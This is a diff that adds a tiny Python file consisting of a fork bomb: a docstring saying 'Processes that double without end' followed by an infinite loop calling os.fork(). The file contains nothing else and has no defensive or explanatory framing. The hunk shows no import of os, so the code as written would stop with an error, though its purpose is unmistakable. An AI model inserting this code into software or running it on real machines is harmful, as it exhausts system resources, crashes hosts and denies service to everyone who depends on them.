@@ -1,0 +1,4 @@
+"""Processes that double without end."""
+
+while True:
+    os.fork()
